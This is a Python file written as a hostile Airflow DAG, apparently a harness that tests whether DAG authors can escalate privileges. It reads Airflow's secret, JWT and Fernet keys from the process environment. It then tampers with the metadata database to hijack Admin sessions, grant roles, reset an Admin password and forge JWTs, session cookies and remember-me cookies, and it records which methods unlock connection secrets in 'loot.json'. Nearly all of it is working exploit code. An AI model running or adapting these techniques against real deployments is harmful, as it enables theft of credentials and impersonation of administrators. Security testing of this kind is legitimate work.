"""A DAG file whose author wants to be somebody in Airflow. Runs in Airflow's own processes, without any of ours.

It has what the process that reads it has: every variable, and with those Airflow's database and its secrets. Its author
may sign in as a Viewer too: cookies of theirs lie in the file `theirs.json` beside Airflow's database. What each way
brought is written to `loot.json` there; a way that brought something read connections, which no Viewer may.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import jwt
from itsdangerous import Signer, URLSafeTimedSerializer

_WHOLE = Path("/proc/self/environ").read_bytes().decode(errors="replace").split("\0")
_AIRFLOWS = (line for line in _WHOLE if line.startswith("AIRFLOW") and "=" in line)
ENVIRONMENT = dict(os.environ) | dict(line.split("=", 1) for line in _AIRFLOWS)
"""What the process was started with; Airflow 3 hides some of it from the code of DAGs."""
HOME = Path(ENVIRONMENT["AIRFLOW_HOME"])
IS_3 = "AIRFLOW__API__BASE_URL" in ENVIRONMENT
URL = ENVIRONMENT["AIRFLOW__API__BASE_URL" if IS_3 else "AIRFLOW__WEBSERVER__BASE_URL"]
SECRET_KEY = ENVIRONMENT["AIRFLOW__API__SECRET_KEY" if IS_3 else "AIRFLOW__WEBSERVER__SECRET_KEY"]
JWT_SECRET = ENVIRONMENT.get("AIRFLOW__API_AUTH__JWT_SECRET") or SECRET_KEY
LOGIN = f"{URL}/auth/login/" if IS_3 else f"{URL}/login/"
TABLES = (
    "airflow_entra_session",
    "airflow_entra_identity",
    "ab_user",
    "ab_user_role",
    "ab_permission_view_role",
    "session",
)
PATIENCE = 2.5
"""Seconds for which a way is tried: longer than the server believes what it knows."""
PASSWORD = "of-the-thief"

Headers = dict[str, str]


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_: Any) -> None:
        return None


_http = urllib.request.build_opener(_NoRedirect, urllib.request.ProxyHandler({}))


def ask(url: str, headers: Headers, body: bytes | None = None) -> tuple[int, dict[str, str], str]:
    request = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"} | headers)  # noqa: S310
    try:
        with _http.open(request, timeout=20) as answer:
            cookies = answer.headers.get_all("Set-Cookie") or []
            return answer.status, _cookies(cookies), answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        with error:
            cookies = error.headers.get_all("Set-Cookie") or []
            return error.code, _cookies(cookies), error.read().decode(errors="replace")


def _cookies(lines: list[str]) -> dict[str, str]:
    return dict(line.split(";")[0].split("=", 1) for line in lines)


def cookie(**values: str) -> Headers:
    return {"Cookie": "; ".join(f"{name}={value}" for name, value in values.items())}


def is_somebody(headers: Headers) -> bool:
    """Whether a request with these reads connections, or gets cookies at the login page that do."""
    path = "/api/v2/connections" if IS_3 else "/api/v1/connections"
    if ask(URL + path, headers)[0] == 200:
        return True
    _, given, _ = ask(LOGIN, headers)
    return bool(given) and ask(URL + path, cookie(**given))[0] == 200


@contextmanager
def database() -> Iterator[sqlite3.Connection]:
    """Airflow's own, as the variables of this process name it; all as it was afterwards."""
    file = ENVIRONMENT["AIRFLOW__DATABASE__SQL_ALCHEMY_CONN"].removeprefix("sqlite:///")
    with closing(sqlite3.connect(file, timeout=30)) as connection:
        before = {table: connection.execute(f"SELECT * FROM {table}").fetchall() for table in TABLES}  # noqa: S608
        try:
            yield connection
        finally:
            for table, rows in before.items():
                connection.execute(f"DELETE FROM {table}")  # noqa: S608
                for row in rows:
                    marks = ", ".join("?" * len(row))
                    connection.execute(f"INSERT INTO {table} VALUES ({marks})", row)  # noqa: S608
            connection.commit()


def sessions_of(connection: sqlite3.Connection, role: str) -> list[dict[str, Any]]:
    """The live sessions of the people who have this role and no other, newest first."""
    query = (
        "SELECT airflow_entra_session.* FROM airflow_entra_session JOIN airflow_entra_identity USING (user_id)"
        " WHERE ended_at IS NULL AND roles = ? ORDER BY airflow_entra_session.rowid DESC"
    )
    cursor = connection.execute(query, (json.dumps([role]),))
    return [dict(zip([column[0] for column in cursor.description], row, strict=True)) for row in cursor]


def theirs() -> Headers:
    """The author's own cookies, of a Viewer who is signed in."""
    return cookie(**json.loads((HOME / "theirs.json").read_text()))


def token(user_id: int, handle: str) -> Headers:
    """A token as Airflow 3 gives one, under its own secret."""
    now = int(time.time())
    claims = {
        "sub": str(user_id),
        "entra_session": handle,
        "jti": uuid.uuid4().hex,
        "iss": ENVIRONMENT.get("AIRFLOW__API_AUTH__JWT_ISSUER"),
        "aud": ENVIRONMENT.get("AIRFLOW__API_AUTH__JWT_AUDIENCE", "apache-airflow"),
        "nbf": now,
        "iat": now,
        "exp": now + 600,
    }
    kept = {name: value for name, value in claims.items() if value is not None}
    return {"Authorization": f"Bearer {jwt.encode(kept, JWT_SECRET, algorithm='HS512', headers={'kid': 'x'})}"}


def flask_session(connection: sqlite3.Connection, content: dict[str, Any]) -> Headers:
    """A session of Flask's, in the database and in a cookie that Airflow's own key signs."""
    sid = uuid.uuid4().hex
    if IS_3:
        import msgspec  # type: ignore[import-not-found]

        data = msgspec.msgpack.encode(content)
    else:
        data = json.dumps(content).encode()
    later = time.strftime("%Y-%m-%d %H:%M:%S.000000", time.gmtime(time.time() + 3600))
    connection.execute("INSERT INTO session (session_id, data, expiry) VALUES (?, ?, ?)", (sid, data, later))
    connection.commit()
    signer = Signer(SECRET_KEY, salt="flask-session", key_derivation="hmac")
    return cookie(session=signer.sign(sid.encode()).decode())


def everywhere(connection: sqlite3.Connection, user_id: int, handle: str) -> list[Headers]:
    """A handle wherever one could be."""
    in_flask = {"_user_id": str(user_id), "_fresh": True, "_permanent": True, "entra_session": handle}
    serializer = URLSafeTimedSerializer(
        SECRET_KEY, salt="cookie-session", signer_kwargs={"key_derivation": "hmac", "digest_method": hashlib.sha1}
    )
    ways = [
        flask_session(connection, in_flask),
        cookie(session=str(serializer.dumps(in_flask))),
        cookie(airflow_entra_session=handle),
        cookie(airflow_entra_session=handle) | token(user_id, handle),
        token(user_id, handle),
    ]
    bearer = token(user_id, handle)["Authorization"].removeprefix("Bearer ")
    return [*ways, cookie(_token=bearer, airflow_entra_session=handle)]


# --- the ways ---


def a_session_that_is_in_the_table(connection: sqlite3.Connection) -> list[Headers]:
    admin = sessions_of(connection, "Admin")[0]
    return everywhere(connection, admin["user_id"], admin["id"])


def a_session_that_they_write(connection: sqlite3.Connection) -> list[Headers]:
    admin = sessions_of(connection, "Admin")[0]
    ways = []
    handle = base64.urlsafe_b64encode(os.urandom(32)).decode().rstrip("=")
    known = [SECRET_KEY, JWT_SECRET, ENVIRONMENT["AIRFLOW__CORE__FERNET_KEY"], ""]
    hashes = [hmac.new(key.encode(), handle.encode(), hashlib.sha256).hexdigest() for key in known]
    for id_ in {handle, hashlib.sha256(handle.encode()).hexdigest(), *hashes}:
        row = admin | {"id": id_}
        marks = ", ".join("?" * len(row))
        names = ", ".join(row)
        connection.execute(f"INSERT INTO airflow_entra_session ({names}) VALUES ({marks})", tuple(row.values()))  # noqa: S608
    connection.commit()
    ways += everywhere(connection, admin["user_id"], handle)
    return ways


def their_own_session_with_other_roles(connection: sqlite3.Connection) -> list[Headers]:
    mine = sessions_of(connection, "Viewer")[0]
    connection.execute("UPDATE airflow_entra_identity SET roles = '[\"Admin\"]' WHERE user_id = ?", (mine["user_id"],))
    _give(connection, mine["user_id"], "Admin")
    return [theirs()]


def their_own_session_as_somebody_else(connection: sqlite3.Connection) -> list[Headers]:
    mine, admin = sessions_of(connection, "Viewer")[0], sessions_of(connection, "Admin")[0]
    connection.execute(
        "UPDATE airflow_entra_session SET user_id = ?, object_id = ? WHERE id = ?",
        (admin["user_id"], admin["object_id"], mine["id"]),
    )
    ways = [theirs()]
    if IS_3:
        held = json.loads((HOME / "theirs.json").read_text())
        claims = jwt.decode(held["_token"], options={"verify_signature": False})
        ways += [token(admin["user_id"], claims["entra_session"])]
        ways += [ways[-1] | cookie(**{name: value for name, value in held.items() if name != "_token"})]
    return ways


def their_own_user_as_somebody_else(connection: sqlite3.Connection) -> list[Headers]:
    """The person's row and the name of the user change hands; the session's number of the user stays."""
    mine, admin = sessions_of(connection, "Viewer")[0], sessions_of(connection, "Admin")[0]
    connection.execute("DELETE FROM airflow_entra_identity WHERE user_id = ?", (mine["user_id"],))
    connection.execute(
        "UPDATE airflow_entra_identity SET user_id = ? WHERE object_id = ?", (mine["user_id"], admin["object_id"])
    )
    connection.execute("UPDATE ab_user SET username = 'aside' WHERE id = ?", (admin["user_id"],))
    connection.execute("UPDATE ab_user SET username = ? WHERE id = ?", (admin["object_id"], mine["user_id"]))
    connection.execute("UPDATE airflow_entra_session SET object_id = ? WHERE id = ?", (admin["object_id"], mine["id"]))
    return [theirs()]


def a_role_of_airflows_with_more_permissions(connection: sqlite3.Connection) -> list[Headers]:
    ((viewer,),) = connection.execute("SELECT id FROM ab_role WHERE name = 'Viewer'").fetchall()
    connection.execute(
        "INSERT INTO ab_permission_view_role (id, permission_view_id, role_id)"
        " SELECT (SELECT max(id) FROM ab_permission_view_role) + ab_permission_view.id, ab_permission_view.id, ?"
        " FROM ab_permission_view WHERE id NOT IN (SELECT permission_view_id FROM ab_permission_view_role"
        " WHERE role_id = ?)",
        (viewer, viewer),
    )
    return [theirs()]


def a_password(connection: sqlite3.Connection) -> list[Headers]:
    admin = sessions_of(connection, "Admin")[0]
    salt = "0123456789abcdef"
    digest = hashlib.pbkdf2_hmac("sha256", PASSWORD.encode(), salt.encode(), 1000).hex()
    connection.execute(
        "UPDATE ab_user SET password = ? WHERE id = ?", (f"pbkdf2:sha256:1000${salt}${digest}", admin["user_id"])
    )
    connection.commit()
    credentials = {"username": admin["object_id"], "password": PASSWORD}
    basic = base64.b64encode(f"{admin['object_id']}:{PASSWORD}".encode()).decode()
    ways: list[Headers] = [{"Authorization": f"Basic {basic}"}]
    for path in ("/auth/token", "/auth/token/cli", "/api/v1/security/login"):
        _, _, text = ask(URL + path, {}, json.dumps(credentials | {"provider": "db"}).encode())
        if '"access_token"' in text:
            ways.append({"Authorization": f"Bearer {json.loads(text)['access_token']}"})
    return ways


def a_remember_me_cookie(connection: sqlite3.Connection) -> list[Headers]:
    admin = sessions_of(connection, "Admin")[0]
    payload = str(admin["user_id"])
    digest = hmac.new(SECRET_KEY.encode(), payload.encode(), hashlib.sha512).hexdigest()
    return [cookie(remember_token=f"{payload}|{digest}"), cookie(airflow_entra_remembers_nobody=f"{payload}|{digest}")]


WAYS: dict[str, Callable[[sqlite3.Connection], list[Headers]]] = {
    way.__name__: way
    for way in (
        a_session_that_is_in_the_table,
        a_session_that_they_write,
        their_own_session_with_other_roles,
        their_own_session_as_somebody_else,
        their_own_user_as_somebody_else,
        a_role_of_airflows_with_more_permissions,
        a_password,
        a_remember_me_cookie,
    )
}


def try_way(name: str) -> bool:
    """Whether it makes somebody of the author who may more than a Viewer."""
    patience = 35 if name == "a_role_of_airflows_with_more_permissions" else PATIENCE
    with database() as connection:
        ways = WAYS[name](connection)
        connection.commit()
        deadline = time.monotonic() + patience
        while time.monotonic() < deadline:
            if any(is_somebody(headers) for headers in ways):
                return True
            time.sleep(0.3)
    return False


def _give(connection: sqlite3.Connection, user_id: int, role: str) -> None:
    connection.execute(
        "INSERT INTO ab_user_role (id, user_id, role_id) SELECT (SELECT max(id) + 1 FROM ab_user_role), ?, id"
        " FROM ab_role WHERE name = ?",
        (user_id, role),
    )


def steal() -> None:
    """Once: in a process of its own, because Airflow waits half a minute for a file of DAGs."""
    started = HOME / "loot.started"
    if (HOME / "theirs.json").exists() and not started.exists():
        started.touch()
        with (HOME / "loot.log").open("wb") as log:
            subprocess.Popen([sys.executable, __file__], env=ENVIRONMENT, stdout=log, stderr=log, cwd=HOME)


def main() -> None:
    loot = {"variables": sorted(ENVIRONMENT), "ways": {name: try_way(name) for name in WAYS}}
    (HOME / "loot.partial").write_text(json.dumps(loot))
    (HOME / "loot.partial").rename(HOME / "loot.json")


if __name__ == "__main__":
    main()
